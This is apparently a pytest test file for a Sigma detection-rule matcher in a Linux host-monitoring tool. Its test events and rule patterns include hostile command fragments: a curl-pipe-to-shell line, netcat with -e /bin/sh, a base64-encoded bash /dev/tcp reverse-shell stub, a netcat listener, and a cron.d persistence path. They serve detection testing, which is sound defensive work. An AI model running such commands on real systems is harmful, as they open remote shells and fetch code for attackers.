"""The compiled matcher, one modifier and condition form at a time (rules built
from YAML strings with pySigma, events as the collector sends them)."""

from __future__ import annotations

import base64
import json
import os
from typing import Any

import pytest
from sigma.rule import SigmaRule

from snoopbus.consumers.alert.engine import Engine
from snoopbus.consumers.alert.fields import user_name
from snoopbus.consumers.alert.matcher import CompiledRule, compile_rule
from snoopbus.consumers.alert.values import Unsupported
from tests.support.events import event as build_event


def rule(detection: str, category: str = "process_creation") -> CompiledRule:
    text = f"""
title: test rule
id: 6f0b9a52-3f1e-4d7e-9a3c-000000000001
level: high
tags: [attack.execution, attack.t1059]
logsource: {{product: linux, category: {category}}}
detection:
{detection}
"""
    return compile_rule(SigmaRule.from_yaml(text), category)


def exec_event(argv: list[str] | None = None, **proc: Any) -> dict[str, Any]:
    argv = argv if argv is not None else ["/bin/sh", "-c", "id"]
    p = {"pid": 42, "ppid": 1, "uid": 0, "exe": argv[0], "argv": argv, "cwd": "/root", **proc}
    return build_event(id="i-1", host="h", proc=p)


def matches(r: CompiledRule, event: dict[str, Any]) -> bool:
    hits = Engine([r]).match(event)
    return bool(hits)


def sel(body: str, condition: str = "selection") -> str:
    lines = "\n".join("        " + line for line in body.strip().splitlines())
    return f"    selection:\n{lines}\n    condition: {condition}"


# -- plain values and wildcards --------------------------------------------


def test_exact_match_is_case_insensitive_and_whole() -> None:
    r = rule(sel("Image: /USR/bin/Curl"))
    assert matches(r, exec_event(["/usr/bin/curl"]))
    assert not matches(r, exec_event(["/usr/bin/curl2"]))


def test_wildcards_star_and_question_mark() -> None:
    r = rule(sel("Image: '/usr/*/py?hon3'"))
    assert matches(r, exec_event(["/usr/local/bin/python3"]))
    assert not matches(r, exec_event(["/usr/local/bin/pyython3"]))
    assert not matches(r, exec_event(["/opt/python3"]))


def test_escaped_wildcards_are_literal() -> None:
    r = rule(sel(r"CommandLine: 'echo \*\?'"))
    assert matches(r, exec_event(["echo", "*?"]))
    assert not matches(r, exec_event(["echo", "ab"]))


def test_a_list_of_values_is_or_linked() -> None:
    r = rule(sel("Image:\n  - /bin/a\n  - /bin/b"))
    assert matches(r, exec_event(["/bin/b"]))
    assert not matches(r, exec_event(["/bin/c"]))


def test_numbers_match_int_fields() -> None:
    r = rule(sel("ProcessId: 42"))
    assert matches(r, exec_event())
    assert not matches(r, exec_event(pid=43))


def test_null_matches_a_missing_field() -> None:
    r = rule(sel("ParentImage: null"))
    assert matches(r, exec_event())
    assert not matches(r, exec_event(parent_exe="/usr/sbin/nginx"))


# -- string modifiers --------------------------------------------------------


@pytest.mark.parametrize(
    ("modifier", "hit", "miss"),
    [
        ("contains", "x base64 -D y", "x base6 y"),
        ("startswith", "BASE64 -d", "x base64 -d"),
        ("endswith", "run base64 -d", "base64 -d x"),
    ],
)
def test_contains_startswith_endswith(modifier: str, hit: str, miss: str) -> None:
    r = rule(sel(f"CommandLine|{modifier}: 'base64 -d'"))
    assert matches(r, exec_event(hit.split(" ")))
    assert not matches(r, exec_event(miss.split(" ")))


def test_contains_with_inner_wildcard() -> None:
    r = rule(sel("CommandLine|contains: 'curl*|*sh'"))
    assert matches(r, exec_event(["sh", "-c", "curl http://x | sh"]))
    assert not matches(r, exec_event(["sh", "-c", "curl http://x"]))


def test_all_links_the_values_with_and() -> None:
    r = rule(sel("CommandLine|contains|all:\n  - ' -e '\n  - '/bin/sh'"))
    assert matches(r, exec_event(["nc", "-e", "/bin/sh", "1.2.3.4"]))
    assert not matches(r, exec_event(["nc", "-e", "/bin/cat"]))


def test_cased_is_case_sensitive() -> None:
    r = rule(sel("CommandLine|cased|contains: 'ABC'"))
    assert matches(r, exec_event(["x", "ABC"]))
    assert not matches(r, exec_event(["x", "abc"]))


def test_windash_expands_dash_and_slash() -> None:
    r = rule(sel("CommandLine|windash|contains: ' -exec '"))
    assert matches(r, exec_event(["find", ".", "-exec", "sh"]))
    assert matches(r, exec_event(["find", ".", "/exec", "sh"]))
    assert matches(r, exec_event(["find", ".", "\u2013exec", "sh"]))
    assert not matches(r, exec_event(["find", ".", "+exec", "sh"]))


def test_base64_matches_the_encoded_value() -> None:
    encoded = base64.b64encode(b"/bin/bash -i").decode()
    r = rule(sel("CommandLine|base64|contains: '/bin/bash -i'"))
    assert matches(r, exec_event(["echo", encoded]))
    assert not matches(r, exec_event(["echo", "/bin/bash -i"]))


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_base64offset_matches_at_any_offset(offset: int) -> None:
    payload = b"x" * offset + b"bash -i >& /dev/tcp/" + b"y" * 5
    r = rule(sel("CommandLine|base64offset|contains: 'bash -i >& /dev/tcp/'"))
    assert matches(r, exec_event(["echo", base64.b64encode(payload).decode()]))
    assert not matches(r, exec_event(["echo", base64.b64encode(b"harmless text").decode()]))


def test_re_is_unanchored_and_case_sensitive() -> None:
    r = rule(sel(r"CommandLine|re: 'nc\s+-[lv]+p?\s+\d+'"))
    assert matches(r, exec_event(["sudo", "nc", "-lvp", "4444"]))
    assert not matches(r, exec_event(["NC", "-LVP", "4444"]))


def test_re_keeps_question_mark_and_star() -> None:
    r = rule(sel("Image|re: '^/tmp/[^/]*x?$'"))
    assert matches(r, exec_event(["/tmp/payload"]))
    assert not matches(r, exec_event(["/tmp/a/b"]))


@pytest.mark.parametrize(
    ("flag", "value", "hit"),
    [
        ("i", "CURL", True),
        ("", "CURL", False),
        ("m", "a\ncurl", True),
        ("s", "curl\nsh", True),
    ],
)
def test_re_flags(flag: str, value: str, hit: bool) -> None:
    pattern = {"i": "curl", "": "curl", "m": "^curl$", "s": "curl.sh"}[flag]
    mod = f"|{flag}" if flag else ""
    r = rule(sel(f"CommandLine|re{mod}: '{pattern}'"))
    assert matches(r, exec_event([value])) is hit


def test_cidr() -> None:
    r = rule(sel("CommandLine|cidr: 10.0.0.0/8"))
    assert matches(r, exec_event(["10.1.2.3"]))
    assert not matches(r, exec_event(["192.168.1.1"]))
    assert not matches(r, exec_event(["not-an-ip"]))


def test_exists() -> None:
    yes = rule(sel("ParentImage|exists: true"))
    no = rule(sel("ParentImage|exists: false"))
    with_parent = exec_event(parent_exe="/usr/sbin/nginx")
    assert matches(yes, with_parent) and not matches(yes, exec_event())
    assert matches(no, exec_event()) and not matches(no, with_parent)


@pytest.mark.parametrize(
    ("modifier", "bound", "hits"),
    [("gt", 42, (43,)), ("gte", 42, (42, 43)), ("lt", 42, (41,)), ("lte", 42, (41, 42))],
)
def test_numeric_comparisons(modifier: str, bound: int, hits: tuple[int, ...]) -> None:
    r = rule(sel(f"ProcessId|{modifier}: {bound}"))
    for pid in (41, 42, 43):
        assert matches(r, exec_event(pid=pid)) is (pid in hits), (modifier, pid)


def test_neq_negates_the_item() -> None:
    r = rule(sel("Image|endswith: /sh\nUser|neq: root"))
    assert not matches(r, exec_event(["/bin/sh"], uid=0))
    assert matches(r, exec_event(["/bin/sh"], uid=65534))


def test_keywords_search_every_field() -> None:
    r = rule("    keywords:\n        - 'ZWNobyBo'\n    condition: keywords")
    assert matches(r, exec_event(["echo", "xxZWNOBYBOyy"]))
    assert not matches(r, exec_event(["echo", "hello"]))


# -- conditions -------------------------------------------------------------

SELECTIONS = """
    selection_a:
        CommandLine|contains: alpha
    selection_b:
        CommandLine|contains: beta
    filter_x:
        CommandLine|contains: gamma
"""


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("selection_a and selection_b", {"alpha beta"}),
        ("selection_a or selection_b", {"alpha", "beta", "alpha beta", "alpha gamma"}),
        ("selection_a and not filter_x", {"alpha", "alpha beta"}),
        ("not selection_a", {"beta", "gamma", "none"}),
        ("(selection_a or selection_b) and not filter_x", {"alpha", "beta", "alpha beta"}),
        ("selection_a or (selection_b and filter_x)", {"alpha", "alpha beta", "alpha gamma"}),
        ("1 of selection_*", {"alpha", "beta", "alpha beta", "alpha gamma"}),
        ("all of selection_*", {"alpha beta"}),
        ("1 of selection*", {"alpha", "beta", "alpha beta", "alpha gamma"}),
        ("any of selection_*", {"alpha", "beta", "alpha beta", "alpha gamma"}),
        ("1 of them", {"alpha", "beta", "gamma", "alpha beta", "alpha gamma"}),
        ("all of them", set()),
        ("1 of selection_* and not 1 of filter_*", {"alpha", "beta", "alpha beta"}),
    ],
)
def test_condition_forms(condition: str, expected: set[str]) -> None:
    r = rule(f"{SELECTIONS}    condition: {condition}")
    corpus = ["alpha", "beta", "gamma", "alpha beta", "alpha gamma", "none"]
    got = {line for line in corpus if matches(r, exec_event(line.split(" ")))}
    assert got == expected


def test_list_of_maps_is_or_of_and() -> None:
    r = rule(
        "    selection:\n"
        "        - Image|endswith: /curl\n          CommandLine|contains: ' -o '\n"
        "        - Image|endswith: /wget\n    condition: selection"
    )
    assert matches(r, exec_event(["/usr/bin/curl", "-o", "x"]))
    assert not matches(r, exec_event(["/usr/bin/curl", "x"]))
    assert matches(r, exec_event(["/usr/bin/wget"]))


def test_several_conditions_are_or_linked() -> None:
    r = rule(f"{SELECTIONS}    condition:\n        - selection_a\n        - selection_b")
    assert matches(r, exec_event(["beta"]))


def test_hit_reports_which_selections_matched() -> None:
    r = rule(f"{SELECTIONS}    condition: 1 of selection_* and not filter_x")
    (hit,) = Engine([r]).match(exec_event(["alpha", "beta"]))
    assert hit.selections == ["selection_a", "selection_b"]
    assert hit.rule.tags == ["attack.execution", "attack.t1059"] and hit.rule.level == "high"


# -- fields -------------------------------------------------------------------


def test_process_creation_fields() -> None:
    r = rule(
        sel(
            "ParentImage: /usr/sbin/nginx\nParentCommandLine: 'nginx: worker'\n"
            "CurrentDirectory: /srv\nUser: root\nParentProcessId: 7\nOriginalFileName: sh"
        )
    )
    event = exec_event(
        ["/bin/sh"], parent_exe="/usr/sbin/nginx", parent_argv=["nginx:", "worker"],
        cwd="/srv", uid=0, ppid=7,
    )  # fmt: skip
    assert matches(r, event)


def test_user_names_come_from_the_local_password_database() -> None:
    assert user_name(0) == "root"
    assert user_name(2**31 - 7) == str(2**31 - 7)  # unknown: the number
    assert user_name(os.getuid()) == user_name(os.getuid())  # cached, stable


def test_file_event_fields_and_event_types() -> None:
    r = rule(sel("TargetFilename|startswith: /etc/cron.d/"), category="file_event")
    engine = Engine([r])

    def file_event(type_: str, path: str) -> dict[str, Any]:
        return {"v": 1, "id": "f", "ts": 1, "host": "h", "type": type_,
                "proc": {"pid": 1, "uid": 0, "exe": "/bin/cp"}, "file": {"path": path}}  # fmt: skip

    for type_ in ("create", "modify", "close_write", "moved_to", "renamed"):
        assert engine.match(file_event(type_, "/etc/cron.d/evil")), type_
    assert not engine.match(file_event("delete", "/etc/cron.d/evil"))
    assert not engine.match(file_event("open", "/etc/cron.d/evil"))
    assert not engine.match(file_event("create", "/etc/cron.daily/x"))
    assert not engine.match(exec_event(["/etc/cron.d/evil"]))


def test_setuid_mode_as_octal_text() -> None:
    r = rule(sel("FileMode|re: '^[4-7]'"), category="file_attrib")
    event = {"v": 1, "id": "a", "ts": 1, "host": "h", "type": "attrib",
             "proc": {"pid": 1}, "file": {"path": "/tmp/x", "mode": 0o104755}}  # fmt: skip
    assert Engine([r]).match(event)
    event["file"]["mode"] = 0o100755
    assert not Engine([r]).match(event)


def test_a_flood_summary_can_be_alerted_on() -> None:
    """A summary event (proto/README.md, "Isolation"): fields named by their
    event keys, in snoopbus's own category file_summary."""
    r = rule(sel("of: close_write\ncount|gte: 100000"), category="file_summary")
    event = {"v": 1, "id": "s", "ts": 2, "host": "h", "type": "summary", "of": "close_write",
             "count": 2_100_000, "since": 1, "proc": {"pid": 7, "uid": 65534},
             "file": {"inode": 42, "dev": 2049}}  # fmt: skip
    assert Engine([r]).match(event)
    event["count"] = 99_999
    assert not Engine([r]).match(event)
    event["count"], event["of"] = 2_100_000, "create"
    assert not Engine([r]).match(event)


# -- what is refused ----------------------------------------------------------


@pytest.mark.parametrize(
    ("detection", "construct"),
    [
        (sel("Image|fieldref: ParentImage"), "fieldref"),
        (sel("Image|expand: '%allowed%'"), "expand"),
        (sel("Image|minute: 5"), "timestamp"),
    ],
)
def test_unsupported_constructs_are_named(detection: str, construct: str) -> None:
    with pytest.raises(Unsupported, match=construct):
        rule(detection)


def test_an_unknown_field_is_refused_when_the_map_is_given() -> None:
    text = (
        "title: t\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n  selection:\n    LogonId: 0\n  condition: selection\n"
    )
    with pytest.raises(Unsupported, match="field 'LogonId'"):
        compile_rule(SigmaRule.from_yaml(text), "process_creation", {"Image": "proc.exe"})


def test_generated_code_takes_any_text_literally() -> None:
    """fuse() puts substrings into generated code: quotes, backslashes, newlines
    and non-ASCII must stay data."""
    needle = "x'\\\"); import os #\n\u00e9"
    r = rule(sel("CommandLine|contains: " + json.dumps(needle)))
    assert r.match.__name__ == "_fused"
    assert matches(r, exec_event(["echo", f"a{needle.upper()}b\udcff"]))
    assert not matches(r, exec_event(["echo", "x'"]))
